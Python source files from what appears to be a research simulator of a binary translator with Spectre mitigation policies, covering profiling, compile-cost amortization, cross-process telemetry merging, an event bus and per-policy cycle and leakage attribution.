                name: {"calls": stat.calls, "seconds": stat.seconds}
                for name, stat in self.phases.items()
                if stat.calls or stat.seconds
            },
            "blocks": [
                {
                    "entry": "%#x" % profile.entry,
                    "kind": profile.kind,
                    "tier": profile.tier,
                    "executions": profile.executions,
                    "seconds": profile.seconds,
                    "codegen_seconds": self.codegen_seconds.get(
                        (profile.entry, profile.kind), 0.0),
                }
                for profile in blocks
            ],
        }


# ---------------------------------------------------------------------------
# One-shot profiled runs.
# ---------------------------------------------------------------------------

def profile_run(program, policy, vliw_config=None, engine_config=None,
                interpreter=None, tcache_dir=None,
                meta: Optional[Dict[str, Any]] = None):
    """Run ``program`` once with a fresh profiler attached.

    Returns ``(SystemRunResult, report dict)``.
    """
    from ..platform.system import DbtSystem  # late: avoids import cycles

    profiler = HostProfiler()
    system = DbtSystem(program, policy=policy, vliw_config=vliw_config,
                       engine_config=engine_config, interpreter=interpreter,
                       tcache_dir=tcache_dir, profiler=profiler)
    result = system.run()
    traces = getattr(system, "traces", None)
    trace_section = None
    if traces is not None:
        stats = traces.stats
        trace_section = {
            "recorded": stats.recorded,
            "compiled": stats.compiled,
            "persist_hits": stats.persist_hits,
            "dispatches": stats.dispatches,
            "blocks": stats.blocks,
            "demotions": stats.demotions,
            "guard_exits": dict(stats.guard_exits),
            "compile_seconds": stats.compile_seconds,
            "megablocks": [dict(row, head="%#x" % row["head"])
                           for row in traces.megablock_rows()],
        }
    profiler.detach()
    run_meta = {"policy": policy.value, "interpreter": system.interpreter}
    run_meta.update(meta or {})
    report = profiler.report(run_meta)
    if trace_section is not None:
        report["traces"] = trace_section
    return result, report


# ---------------------------------------------------------------------------
# Compile-cost amortization.
# ---------------------------------------------------------------------------

def amortization_report(fast_report: dict, compiled_report: dict,
                        workload: str = "") -> dict:
    """Compare a fast-tier and a compiled-tier profile of the *same*
    workload: for every block that ran compiled, did the per-execution
    saving over the fast interpreter pay back the compile cost?

    The two runs execute bit-identical block sequences (the
    differential gate), so rows join on ``(entry, kind)``.  The verdict
    is the tier-4 promote/demote signal: ``"compiled"`` when the summed
    saving exceeds the summed codegen cost, else ``"fast"``.
    """
    fast_blocks = {
        (row["entry"], row["kind"]): row
        for row in fast_report.get("blocks", [])
        if row["tier"] == PHASE_FAST
    }
    rows: List[dict] = []
    total_saved = 0.0
    total_compile = 0.0
    for row in compiled_report.get("blocks", []):
        if row["tier"] != PHASE_COMPILED:
            continue
        fast = fast_blocks.get((row["entry"], row["kind"]))
        if fast is None or not fast["executions"] or not row["executions"]:
            continue
        fast_per_exec = fast["seconds"] / fast["executions"]
        compiled_per_exec = row["seconds"] / row["executions"]
        saved = (fast_per_exec - compiled_per_exec) * row["executions"]
        compile_cost = row["codegen_seconds"]
        total_saved += saved
        total_compile += compile_cost
        rows.append({
            "entry": row["entry"],
            "kind": row["kind"],
            "executions": row["executions"],
            "compile_ms": compile_cost * 1e3,
            "saved_ms": saved * 1e3,
            "amortized": saved > compile_cost,
        })
    rows.sort(key=lambda r: -r["saved_ms"])
    report = {
        "schema": "repro.amortization/1",
        "workload": workload,
        "blocks": rows,
        "total_compile_ms": total_compile * 1e3,
        "total_saved_ms": total_saved * 1e3,
        "preferred_tier": ("compiled" if total_saved > total_compile
                           else "fast"),
    }
    traces = compiled_report.get("traces")
    if traces is not None:
        # Tier-4 rows ride along verbatim: megablock compile time is
        # background wall time (the engine never stalls for it), so it
        # is reported next to, not merged into, the per-block ledger.
        report["megablocks"] = traces["megablocks"]
        report["trace_compile_ms"] = traces["compile_seconds"] * 1e3
    return report


# ---------------------------------------------------------------------------
# Rendering.
# ---------------------------------------------------------------------------

def format_profile(report: dict, top: int = 10) -> str:
    """Render a profile report: phase table + hottest blocks."""
    total = report["total_seconds"] or 1e-12
    lines = ["phase             calls      seconds   share",
             "-" * 45]
    phases = sorted(report["phases"].items(),
                    key=lambda item: -item[1]["seconds"])
    for name, stat in phases:
        lines.append("%-16s %6d %12.6f %6.1f%%"
                     % (name, stat["calls"], stat["seconds"],
                        100.0 * stat["seconds"] / total))
    lines.append("%-16s %6s %12.6f  100.0%%"
                 % ("total", "", report["total_seconds"]))
    blocks = report.get("blocks", [])[:top]
    if blocks:
        lines.append("")
        lines.append("hottest blocks (by host seconds):")
        lines.append("entry        kind        tier            execs"
                     "      seconds   codegen ms")
        lines.append("-" * 75)
        for row in blocks:
            lines.append("%-12s %-11s %-15s %6d %12.6f %12.3f"
                         % (row["entry"], row["kind"], row["tier"],
                            row["executions"], row["seconds"],
                            row["codegen_seconds"] * 1e3))
    traces = report.get("traces")
    if traces is not None:
        lines.append("")
        lines.append("megablocks (tier-4 traces; compile time is "
                     "background wall time):")
        lines.append(_format_megablocks(traces["megablocks"], top))
        lines.append("trace totals: recorded %d, compiled %d "
                     "(%d persisted), %d dispatches over %d blocks, "
                     "%d demotions, compile %.3f ms"
                     % (traces["recorded"], traces["compiled"],
                        traces["persist_hits"], traces["dispatches"],
                        traces["blocks"], traces["demotions"],
                        traces["compile_seconds"] * 1e3))
    return "\n".join(lines)


def _format_megablocks(rows: List[dict], top: int) -> str:
    lines = ["head          steps  loop     disp       blocks   compile ms",
             "-" * 60]
    for row in rows[:top]:
        lines.append("%-12s %6d %5s %8d %12d %12.3f"
                     % (row["head"], row["steps"],
                        "yes" if row["loop"] else "no",
                        row["dispatches"], row["blocks"],
                        row["compile_seconds"] * 1e3))
    if not rows:
        lines.append("(no megablocks installed)")
    return "\n".join(lines)


def format_amortization(report: dict, top: int = 10) -> str:
    """Render the amortization table and its verdict."""
    lines = ["compile-cost amortization%s:"
             % (" for %s" % report["workload"] if report["workload"] else ""),
             "entry        kind         execs   compile ms    saved ms"
             "   amortized",
             "-" * 70]
    for row in report["blocks"][:top]:
        lines.append("%-12s %-11s %6d %12.3f %11.3f   %s"
                     % (row["entry"], row["kind"], row["executions"],
                        row["compile_ms"], row["saved_ms"],
                        "yes" if row["amortized"] else "no"))
    if not report["blocks"]:
        lines.append("(no blocks ran on the compiled tier)")
    megablocks = report.get("megablocks")
    if megablocks is not None:
        lines.append("")
        lines.append("megablocks (tier-4; compiled off the hot path, so "
                     "compile ms is background wall time):")
        lines.append(_format_megablocks(megablocks, top))
        lines.append("trace compile total: %.3f ms (not on the engine's "
                     "critical path)" % report["trace_compile_ms"])
    lines.append("")
    lines.append("total: compile %.3f ms vs saved %.3f ms -> prefer the "
                 "%s tier"
                 % (report["total_compile_ms"], report["total_saved_ms"],
                    report["preferred_tier"]))
    return "\n".join(lines)


def write_profile(report: dict, path: str) -> None:
    with open(path, "w") as handle:
        json.dump(report, handle, indent=2, sort_keys=True)
        handle.write("\n")
