"""Cross-process telemetry pipeline: spool, envelopes, and the merger.

The observability layer of PR 1 is per-process and in-memory: one
:class:`~repro.obs.observer.Observer` per platform, exported by the
process that owns it.  Everything that runs under ``--jobs N`` — the
hardened parallel sweep, the attack matrix, the chaos runner — therefore
ran blind: the workers' registries died with the worker processes.

This module is the missing transport.  It has three small parts:

* **Envelopes** (:func:`capture_envelope`) — one JSON document per
  simulated point carrying the point's full metrics snapshot
  (``registry.to_dict()``), its span/instant records when a tracer was
  attached, and run metadata (pid, label, workload/policy/interpreter).
* **The spool** (:class:`TelemetrySpool`) — an append-only JSONL
  directory next to the memo cache.  Each writer process appends to its
  *own* ``telemetry-<pid>.jsonl`` (no cross-process interleaving, no
  locks), flushing per line so a killed worker loses at most the line
  being written.  Reads are tolerant: torn or invalid lines are counted
  and skipped, never fatal.
* **The merger** (:func:`merge_envelopes` / :func:`merge_spool`) —
  folds every envelope into one live
  :class:`~repro.obs.registry.MetricsRegistry` (counters and gauges
  sum; histograms merge per-bucket after a bounds check) and one
  Chrome-trace document with **one process track per worker pid**,
  each worker's runs laid out back-to-back on its own timeline.

The merged registry is deliberately a real ``MetricsRegistry`` rather
than a dict: it is the seam a future ``repro serve`` daemon will stream
from — workers keep appending envelopes, the daemon keeps folding them
in and re-exporting ``/metrics``.

Equivalence contract: the same grid at ``--jobs 1`` and ``--jobs N``
produces the same *set* of envelopes (one per simulated point, pids
aside), so the merged counter/gauge/histogram totals are equal — only
the ``pipeline.workers`` gauge differs.  Memo-cache hits skip the
simulation entirely and therefore produce no envelope; telemetry-bearing
sweeps that must account every point should run with a cold cache.

``TelemetryConfig`` is the picklable instruction handed to workers; the
worker-side helpers (:func:`worker_observer`, :func:`spool_envelope`)
keep the instrumentation in ``run_sweep_point``/``run_attack`` to two
calls with the disabled path being ``telemetry is None``.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any, Dict, List, Mapping, Optional, Union

from .observer import Observer
from .registry import Histogram, MetricError, MetricsRegistry
from .trace import TICKS_PER_CYCLE, Tracer

#: Bump when the envelope layout changes; readers skip newer versions
#: instead of misparsing them.
ENVELOPE_VERSION = 1

#: Track name of the per-point boundary spans the merger synthesizes.
TRACK_POINTS = "points"

_SPOOL_GLOB = "telemetry-*.jsonl"


# ---------------------------------------------------------------------------
# Worker-side: configuration, envelopes, the spool.
# ---------------------------------------------------------------------------

@dataclass
class TelemetryConfig:
    """Picklable instruction for one telemetered point.

    Shipped to pool workers inside the task tuple; ``with_point``
    stamps the per-point label/metadata onto a shared template.
    """

    spool_dir: str
    trace: bool = False
    trace_limit: int = 200_000
    label: str = ""
    meta: Dict[str, Any] = field(default_factory=dict)

    def with_point(self, label: str, **meta: Any) -> "TelemetryConfig":
        merged = dict(self.meta)
        merged.update(meta)
        return replace(self, label=label, meta=merged)


def worker_observer(telemetry: Optional[TelemetryConfig]) -> Optional[Observer]:
    """Observer for one telemetered point (``None`` when telemetry is
    off, keeping the worker on the exact seed code path)."""
    if telemetry is None:
        return None
    tracer = Tracer(limit=telemetry.trace_limit) if telemetry.trace else None
    return Observer(tracer=tracer)


def capture_envelope(observer: Observer, label: str = "",
                     meta: Optional[Mapping[str, Any]] = None) -> dict:
    """Snapshot one observer into a JSON-serializable envelope."""
    envelope: Dict[str, Any] = {
        "version": ENVELOPE_VERSION,
        "pid": os.getpid(),
        "label": label,
        "meta": dict(meta or {}),
        "metrics": observer.registry.to_dict(),
    }
    tracer = observer.tracer
    if tracer is not None:
        envelope["trace"] = {
            "spans": [[s.name, s.track, s.start, s.end, s.category,
                       dict(s.args)] for s in tracer.spans],
            "instants": [[i.name, i.track, i.ts, i.category, dict(i.args)]
                         for i in tracer.instants],
            "dropped": tracer.dropped,
            "last_tick": tracer.last_tick,
        }
    return envelope


class TelemetrySpool:
    """Append-only JSONL spool of telemetry envelopes.

    One file per writer process; see the module docstring for the
    durability and tolerance contract.
    """

    def __init__(self, directory: Union[str, Path]):
        self.directory = Path(directory)
        #: Invalid/torn lines skipped by the last :meth:`read`.
        self.skipped = 0

    def append(self, envelope: dict) -> None:
        self.directory.mkdir(parents=True, exist_ok=True)
        path = self.directory / ("telemetry-%d.jsonl" % os.getpid())
        with open(path, "a") as handle:
            handle.write(json.dumps(envelope, sort_keys=True) + "\n")
            handle.flush()

    def read(self) -> List[dict]:
        """Every valid envelope, ordered by (spool file, append order).

        Deterministic for a finished run: files sort by name, lines keep
        append order.  Torn tails of killed workers and any line that
        does not parse as a current-version envelope are counted in
        :attr:`skipped` and dropped.
        """
        self.skipped = 0
        envelopes: List[dict] = []
        for path in sorted(self.directory.glob(_SPOOL_GLOB)):
            try:
                with open(path) as handle:
                    lines = handle.readlines()
            except OSError:
                continue
            for line in lines:
                if not line.strip():
                    continue
                try:
                    envelope = json.loads(line)
                except ValueError:
                    self.skipped += 1
                    continue
                if not _valid_envelope(envelope):
                    self.skipped += 1
                    continue
                envelopes.append(envelope)
        return envelopes


def _valid_envelope(envelope: Any) -> bool:
    if not isinstance(envelope, dict):
        return False
    if envelope.get("version") != ENVELOPE_VERSION:
        return False
    if not isinstance(envelope.get("pid"), int):
        return False
    metrics = envelope.get("metrics")
    return (isinstance(metrics, dict)
            and isinstance(metrics.get("counters"), dict)
            and isinstance(metrics.get("gauges"), dict)
            and isinstance(metrics.get("histograms"), dict))


def spool_envelope(telemetry: Optional[TelemetryConfig],
                   observer: Optional[Observer],
                   **extra_meta: Any) -> None:
    """Worker-side exit hook: serialize ``observer`` into the spool.

    A no-op when telemetry is off; exceptions are deliberately *not*
    swallowed — a spool that cannot be written is a caller bug (bad
    directory), not a condition to lose telemetry over silently.
    """
    if telemetry is None or observer is None:
        return
    meta = dict(telemetry.meta)
    meta.update(extra_meta)
    TelemetrySpool(telemetry.spool_dir).append(
        capture_envelope(observer, telemetry.label, meta))


# ---------------------------------------------------------------------------
# Parent-side: the merger.
# ---------------------------------------------------------------------------

@dataclass
class MergedTelemetry:
    """The parent's view of one telemetered run: every envelope folded
    into a single live registry plus the raw envelopes for the trace
    merger."""

    registry: MetricsRegistry
    envelopes: List[dict]
    #: Worker pids that contributed envelopes, ascending.
    workers: List[int]
    #: Invalid/torn spool lines skipped while reading.
    skipped: int = 0

    def summary(self) -> str:
        return ("%d envelope(s) from %d worker(s)%s"
                % (len(self.envelopes), len(self.workers),
                   ", %d skipped line(s)" % self.skipped
                   if self.skipped else ""))

    # -- trace merging ---------------------------------------------------

    def to_chrome(self) -> dict:
        """One Chrome-trace document with one process per worker pid.

        Workers are numbered in pid order; within a worker, envelopes
        are laid out back-to-back in append order, each run's records
        offset past the previous run's extent, under a synthesized
        per-point boundary span on the ``points`` track.
        """
        events: List[dict] = []
        dropped = 0
        for worker_index, pid in enumerate(self.workers, start=1):
            tids: Dict[str, int] = {}

            def tid_for(track: str) -> int:
                if track not in tids:
                    tids[track] = len(tids) + 1
                    events.append({
                        "name": "thread_name", "ph": "M", "pid": pid,
                        "tid": tids[track], "args": {"name": track},
                    })
                return tids[track]

            events.append({
                "name": "process_name", "ph": "M", "pid": pid, "tid": 0,
                "args": {"name": "worker-%d (pid %d)" % (worker_index, pid)},
            })
            tid_for(TRACK_POINTS)
            offset = 0
            for envelope in self.envelopes:
                if envelope["pid"] != pid:
                    continue
                trace = envelope.get("trace")
                if not isinstance(trace, dict):
                    continue
                extent = max(int(trace.get("last_tick", 0)), TICKS_PER_CYCLE)
                dropped += int(trace.get("dropped", 0))
                events.append({
                    "name": envelope.get("label") or "point",
                    "cat": "pipeline", "ph": "X",
                    "ts": offset, "dur": extent,
                    "pid": pid, "tid": tids[TRACK_POINTS],
                    "args": dict(envelope.get("meta") or {}),
                })
                for name, track, start, end, category, args in \
                        trace.get("spans", []):
                    events.append({
                        "name": name, "cat": category or track, "ph": "X",
                        "ts": start + offset, "dur": end - start,
                        "pid": pid, "tid": tid_for(track), "args": args,
                    })
                for name, track, ts, category, args in \
                        trace.get("instants", []):
                    events.append({
                        "name": name, "cat": category or track, "ph": "i",
                        "s": "t", "ts": ts + offset,
                        "pid": pid, "tid": tid_for(track), "args": args,
                    })
                offset += extent
        return {
            "traceEvents": events,
            "displayTimeUnit": "ms",
            "otherData": {
                "generator": "repro.obs.pipeline",
                "ticks_per_cycle": TICKS_PER_CYCLE,
                "workers": len(self.workers),
                "envelopes": len(self.envelopes),
                "dropped_records": dropped,
            },
        }

    def write_chrome(self, path: str) -> None:
        with open(path, "w") as handle:
            json.dump(self.to_chrome(), handle)


def merge_envelopes(envelopes: List[dict],
                    skipped: int = 0) -> MergedTelemetry:
    """Fold envelopes into one registry (see module docstring).

    Counters and gauges sum — a merged gauge therefore reads as the
    fleet total of a per-run total (e.g. ``run.cycles`` becomes the
    grid's total simulated cycles).  Histograms merge per bucket;
    envelopes that disagree on a histogram's bucket bounds raise
    :class:`~repro.obs.registry.MetricError` rather than merging
    incomparable distributions.  Pipeline self-accounting lands in
    ``pipeline.*`` gauges so the run-counter sections stay comparable
    across ``--jobs`` levels.
    """
    registry = MetricsRegistry()
    workers = sorted({envelope["pid"] for envelope in envelopes})
    for envelope in envelopes:
        metrics = envelope["metrics"]
        for name in sorted(metrics["counters"]):
            registry.counter(name).inc(metrics["counters"][name])
        for name in sorted(metrics["gauges"]):
            registry.gauge(name).inc(metrics["gauges"][name])
        for name in sorted(metrics["histograms"]):
            data = metrics["histograms"][name]
            bounds = tuple(data["buckets"])
            existing = registry.get(name)
            if isinstance(existing, Histogram) \
                    and tuple(existing.buckets) != bounds:
                raise MetricError(
                    "histogram %s bucket bounds differ across envelopes "
                    "(%r vs %r)" % (name, existing.buckets, bounds))
            histogram = registry.histogram(name, buckets=bounds)
            for index, count in enumerate(data["counts"]):
                histogram.counts[index] += count
            histogram.sum += data["sum"]
            histogram.count += data["count"]
    registry.gauge("pipeline.envelopes",
                   "telemetry envelopes merged").set(len(envelopes))
    registry.gauge("pipeline.workers",
                   "worker processes that spooled telemetry").set(len(workers))
    registry.gauge("pipeline.skipped_lines",
                   "torn/invalid spool lines skipped").set(skipped)
    return MergedTelemetry(registry=registry, envelopes=envelopes,
                           workers=workers, skipped=skipped)


def merge_spool(directory: Union[str, Path]) -> MergedTelemetry:
    """Read a spool directory and merge everything in it."""
    spool = TelemetrySpool(directory)
    return merge_envelopes(spool.read(), skipped=spool.skipped)
