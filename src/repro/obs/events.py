"""Structured event bus for the observability layer.

The platform emits *typed events* (a name, the simulated cycle they
happened at, and a flat attribute mapping) through a tiny synchronous
bus.  Handlers subscribe to one event name or to every event; dispatch
is deterministic (subscription order) so traces and tests are stable.

Design constraint (see docs/OBSERVABILITY.md): the *disabled* path must
be a single branch in the instrumented code.  Instrumented layers hold
``observer = None`` by default and guard every hook with
``if observer is not None``; inside the observer, publishing to the bus
is further gated on :attr:`EventBus.active` so an observer used only for
metrics never builds :class:`Event` objects for the bus.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Mapping, Optional


@dataclass(frozen=True)
class Event:
    """One structured platform event.

    ``attrs`` is a flat, JSON-serialisable mapping; guest addresses are
    passed as integers and rendered hex by the exporters.
    """

    name: str
    cycle: int
    attrs: Mapping[str, Any] = field(default_factory=dict)


Handler = Callable[[Event], None]


class EventBus:
    """Synchronous publish/subscribe hub for :class:`Event`.

    Handlers registered for a specific name run before wildcard
    handlers; within each group, subscription order is preserved.
    Handler exceptions propagate — observability must never silently
    swallow a broken assertion in a test handler.
    """

    def __init__(self) -> None:
        self._by_name: Dict[str, List[Handler]] = {}
        self._wildcard: List[Handler] = []
        #: Events published (even with no subscribers), per name.
        self.published: Dict[str, int] = {}

    @property
    def active(self) -> bool:
        """Whether any handler is subscribed (emitters may skip building
        events when this is False)."""
        return bool(self._by_name or self._wildcard)

    def subscribe(self, handler: Handler,
                  name: Optional[str] = None) -> Callable[[], None]:
        """Register ``handler`` for event ``name`` (None = all events).

        Returns a zero-argument unsubscribe callable.
        """
        if name is None:
            self._wildcard.append(handler)
        else:
            self._by_name.setdefault(name, []).append(handler)

        def unsubscribe() -> None:
            bucket = self._wildcard if name is None else self._by_name.get(name, [])
            if handler in bucket:
                bucket.remove(handler)
            if name is not None and not bucket:
                self._by_name.pop(name, None)

        return unsubscribe

    def emit(self, event: Event) -> None:
        """Dispatch ``event`` to its subscribers."""
        self.published[event.name] = self.published.get(event.name, 0) + 1
        for handler in self._by_name.get(event.name, ()):
            handler(event)
        for handler in self._wildcard:
            handler(event)

    def emit_named(self, name: str, cycle: int, **attrs: Any) -> None:
        """Convenience: build and emit an :class:`Event` in one call."""
        self.emit(Event(name, cycle, attrs))
