"""Per-policy cycle attribution — the engine room behind ``repro stats``.

Runs one workload under several mitigation policies with an
:class:`~repro.obs.observer.Observer` attached, and decomposes where the
cycles went: issue stalls (scoreboard waits, the cost pinned loads show
up as), MCB rollbacks (aborted speculative runs + penalty), and trace
side-exit redirects.  This is how the Spectre literature reports
mitigation overhead — attribute the slowdown to specific speculation
events instead of quoting one opaque cycle count.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence

from ..isa.program import Program
from ..security.policy import ALL_POLICIES, MitigationPolicy
from .observer import Observer


@dataclass
class Attribution:
    """Cycle breakdown of one policy run."""

    policy: str
    cycles: int
    instructions: int
    stall_cycles: int
    rollbacks: int
    rollback_cycles: int
    exit_cycles: int
    spectre_patterns: int
    pinned_accesses: int
    speculative_loads: int
    exit_code: int = 0

    @property
    def ipc(self) -> float:
        return self.instructions / self.cycles if self.cycles else 0.0


def attribute_policies(
    program: Program,
    policies: Sequence[MitigationPolicy] = ALL_POLICIES,
    vliw_config=None,
    engine_config=None,
) -> List[Attribution]:
    """Run ``program`` once per policy and attribute the cycles.

    Each run gets a fresh platform and a fresh observer, so rows are
    comparable cold starts (same protocol as ``compare_policies``).
    """
    from ..platform.system import DbtSystem  # late: avoids import cycles

    rows: List[Attribution] = []
    for policy in policies:
        observer = Observer()
        system = DbtSystem(
            program,
            policy=policy,
            vliw_config=vliw_config,
            engine_config=engine_config,
            observer=observer,
        )
        result = system.run()
        core = result.core
        engine = result.engine
        rows.append(Attribution(
            policy=policy.label,
            cycles=result.cycles,
            instructions=result.instructions,
            stall_cycles=core.stall_cycles if core else 0,
            rollbacks=result.rollbacks,
            rollback_cycles=int(observer.registry.value(
                "mcb.rollback_cycles_total")),
            exit_cycles=(core.exits_taken if core else 0)
            * system.vliw_config.exit_penalty,
            spectre_patterns=engine.spectre_patterns_detected if engine else 0,
            pinned_accesses=engine.mitigation_edges_added if engine else 0,
            speculative_loads=engine.speculative_loads_emitted if engine else 0,
            exit_code=result.exit_code,
        ))
    return rows


def attribution_table(rows: Sequence[Attribution],
                      baseline: Optional[str] = None) -> str:
    """Render the rows as the ``repro stats`` attribution table.

    ``vs base`` compares cycle counts against ``baseline`` (default: the
    'unsafe' row if present, else the first row).
    """
    if not rows:
        return "(no attribution rows)"
    if baseline is None:
        baseline = next((r.policy for r in rows if r.policy == "unsafe"),
                        rows[0].policy)
    base_cycles = next(r.cycles for r in rows if r.policy == baseline)

    header = ("%-20s %12s %9s %12s %6s %12s %10s %9s %8s %10s" % (
        "policy", "cycles", "vs base", "stall cyc", "rbks",
        "rollback cyc", "exit cyc", "patterns", "pinned", "spec loads"))
    lines = [header, "-" * len(header)]
    for row in rows:
        ratio = row.cycles / base_cycles if base_cycles else float("inf")
        lines.append("%-20s %12d %8.1f%% %12d %6d %12d %10d %9d %8d %10d" % (
            row.policy, row.cycles, 100.0 * ratio, row.stall_cycles,
            row.rollbacks, row.rollback_cycles, row.exit_cycles,
            row.spectre_patterns, row.pinned_accesses,
            row.speculative_loads))
    lines.append("")
    lines.append("baseline: %s; stall cyc = scoreboard issue stalls "
                 "(pinned loads surface here); rollback cyc = aborted "
                 "speculative runs + MCB penalty; exit cyc = taken "
                 "side-exit redirects." % baseline)
    return "\n".join(lines)
