"""Per-policy cycle attribution — the engine room behind ``repro stats``.

Runs one workload under several mitigation policies with an
:class:`~repro.obs.observer.Observer` attached, and decomposes where the
cycles went: issue stalls (scoreboard waits, the cost pinned loads show
up as), MCB rollbacks (aborted speculative runs + penalty), and trace
side-exit redirects.  This is how the Spectre literature reports
mitigation overhead — attribute the slowdown to specific speculation
events instead of quoting one opaque cycle count.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence

from ..isa.program import Program
from ..security.policy import ALL_POLICIES, MitigationPolicy
from .observer import Observer


@dataclass
class Attribution:
    """Cycle breakdown of one policy run."""

    policy: str
    cycles: int
    instructions: int
    stall_cycles: int
    rollbacks: int
    rollback_cycles: int
    exit_cycles: int
    spectre_patterns: int
    pinned_accesses: int
    speculative_loads: int
    exit_code: int = 0
    #: Chained dispatches (0 unless the engine ran with chaining).
    chain_dispatches: int = 0
    #: Compiled-tier block executions (0 unless tier-3 was selected).
    codegen_hits: int = 0
    #: Speculative loads squashed by MCB rollbacks.
    squashed_loads: int = 0
    #: Speculatively issued loads that missed the cache (the covert
    #: channel's transmitter).
    speculative_miss_probes: int = 0
    #: Guest ``cflush`` executions (attack probe setup).
    cflushes: int = 0
    #: Secret bytes recovered (attack workloads with a known secret).
    bytes_recovered: int = -1
    secret_length: int = 0

    @property
    def ipc(self) -> float:
        return self.instructions / self.cycles if self.cycles else 0.0


def attribute_policies(
    program: Program,
    policies: Sequence[MitigationPolicy] = ALL_POLICIES,
    vliw_config=None,
    engine_config=None,
    interpreter=None,
    secret: Optional[bytes] = None,
) -> List[Attribution]:
    """Run ``program`` once per policy and attribute the cycles.

    Each run gets a fresh platform and a fresh observer, so rows are
    comparable cold starts (same protocol as ``compare_policies``).
    ``secret`` (attack workloads) scores recovered bytes against the
    run's output, feeding the leakage columns.
    """
    from ..platform.system import DbtSystem  # late: avoids import cycles

    rows: List[Attribution] = []
    for policy in policies:
        observer = Observer()
        system = DbtSystem(
            program,
            policy=policy,
            vliw_config=vliw_config,
            engine_config=engine_config,
            interpreter=interpreter,
            observer=observer,
        )
        result = system.run()
        core = result.core
        engine = result.engine
        value = observer.registry.value
        rows.append(Attribution(
            policy=policy.label,
            cycles=result.cycles,
            instructions=result.instructions,
            stall_cycles=core.stall_cycles if core else 0,
            rollbacks=result.rollbacks,
            rollback_cycles=int(value("mcb.rollback_cycles_total")),
            exit_cycles=(core.exits_taken if core else 0)
            * system.vliw_config.exit_penalty,
            spectre_patterns=engine.spectre_patterns_detected if engine else 0,
            pinned_accesses=engine.mitigation_edges_added if engine else 0,
            speculative_loads=engine.speculative_loads_emitted if engine else 0,
            exit_code=result.exit_code,
            chain_dispatches=(result.chain.dispatches
                              if result.chain is not None else 0),
            codegen_hits=(result.codegen.hits
                          if result.codegen is not None else 0),
            squashed_loads=int(value("mcb.squashed_speculative_loads_total")),
            speculative_miss_probes=int(
                value("mem.speculative_load_misses_total")),
            cflushes=int(value("mem.cflush_total")),
            bytes_recovered=(sum(
                1 for expected, actual in zip(secret, result.output)
                if expected == actual) if secret is not None else -1),
            secret_length=len(secret) if secret is not None else 0,
        ))
    return rows


def attribution_table(rows: Sequence[Attribution],
                      baseline: Optional[str] = None) -> str:
    """Render the rows as the ``repro stats`` attribution table.

    ``vs base`` compares cycle counts against ``baseline`` (default: the
    'unsafe' row if present, else the first row).
    """
    if not rows:
        return "(no attribution rows)"
    if baseline is None:
        baseline = next((r.policy for r in rows if r.policy == "unsafe"),
                        rows[0].policy)
    base_cycles = next(r.cycles for r in rows if r.policy == baseline)

    header = ("%-20s %12s %9s %12s %6s %12s %10s %9s %8s %10s %10s %8s" % (
        "policy", "cycles", "vs base", "stall cyc", "rbks",
        "rollback cyc", "exit cyc", "patterns", "pinned", "spec loads",
        "chain disp", "cg hits"))
    lines = [header, "-" * len(header)]
    for row in rows:
        ratio = row.cycles / base_cycles if base_cycles else float("inf")
        lines.append(
            "%-20s %12d %8.1f%% %12d %6d %12d %10d %9d %8d %10d %10d %8d" % (
                row.policy, row.cycles, 100.0 * ratio, row.stall_cycles,
                row.rollbacks, row.rollback_cycles, row.exit_cycles,
                row.spectre_patterns, row.pinned_accesses,
                row.speculative_loads, row.chain_dispatches,
                row.codegen_hits))
    lines.append("")
    lines.append("baseline: %s; stall cyc = scoreboard issue stalls "
                 "(pinned loads surface here); rollback cyc = aborted "
                 "speculative runs + MCB penalty; exit cyc = taken "
                 "side-exit redirects; chain disp / cg hits = chained "
                 "dispatches and compiled-tier executions (tier mix)."
                 % baseline)
    return "\n".join(lines)
