"""Observability layer: structured events, metrics, and tracing.

See ``docs/OBSERVABILITY.md`` for the event taxonomy and exporter
formats.  :mod:`repro.obs.attribution` (the ``repro stats`` backend) is
imported explicitly where needed — it depends on the platform package,
which in turn imports this one.
"""

from .events import Event, EventBus
from .observer import Observer, maybe_phase
from .registry import (
    Counter,
    Gauge,
    Histogram,
    MetricError,
    MetricsRegistry,
)
from .trace import (
    TICKS_PER_CYCLE,
    TRACK_CORE,
    TRACK_ENGINE,
    TRACK_EVENTS,
    TRACK_MEM,
    Tracer,
)

__all__ = [
    "Counter",
    "Event",
    "EventBus",
    "Gauge",
    "Histogram",
    "MetricError",
    "MetricsRegistry",
    "Observer",
    "TICKS_PER_CYCLE",
    "TRACK_CORE",
    "TRACK_ENGINE",
    "TRACK_EVENTS",
    "TRACK_MEM",
    "Tracer",
    "maybe_phase",
]
