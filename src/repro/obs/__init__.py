"""Observability layer: structured events, metrics, and tracing.

See ``docs/OBSERVABILITY.md`` for the event taxonomy and exporter
formats.  :mod:`repro.obs.attribution` (the ``repro stats`` backend) is
imported explicitly where needed — it depends on the platform package,
which in turn imports this one.
"""

from .events import Event, EventBus
from .leakage import LeakageReport, leakage_table, measure_leakage
from .observer import Observer, maybe_phase
from .pipeline import (
    MergedTelemetry,
    TelemetryConfig,
    TelemetrySpool,
    capture_envelope,
    merge_envelopes,
    merge_spool,
    spool_envelope,
    worker_observer,
)
from .profiler import (
    HostProfiler,
    amortization_report,
    format_amortization,
    format_profile,
    profile_run,
)
from .registry import (
    Counter,
    Gauge,
    Histogram,
    MetricError,
    MetricsRegistry,
)
from .trace import (
    TICKS_PER_CYCLE,
    TRACK_CHAIN,
    TRACK_CORE,
    TRACK_ENGINE,
    TRACK_EVENTS,
    TRACK_MEM,
    Tracer,
)

__all__ = [
    "Counter",
    "Event",
    "EventBus",
    "Gauge",
    "Histogram",
    "HostProfiler",
    "LeakageReport",
    "MergedTelemetry",
    "MetricError",
    "MetricsRegistry",
    "Observer",
    "TICKS_PER_CYCLE",
    "TRACK_CHAIN",
    "TRACK_CORE",
    "TRACK_ENGINE",
    "TRACK_EVENTS",
    "TRACK_MEM",
    "TelemetryConfig",
    "TelemetrySpool",
    "Tracer",
    "amortization_report",
    "capture_envelope",
    "format_amortization",
    "format_profile",
    "leakage_table",
    "maybe_phase",
    "measure_leakage",
    "merge_envelopes",
    "merge_spool",
    "profile_run",
    "spool_envelope",
    "worker_observer",
]
