"""Span recorder with a Chrome ``chrome://tracing`` exporter.

Spans and instant events are keyed by *simulated cycle time*.  Because
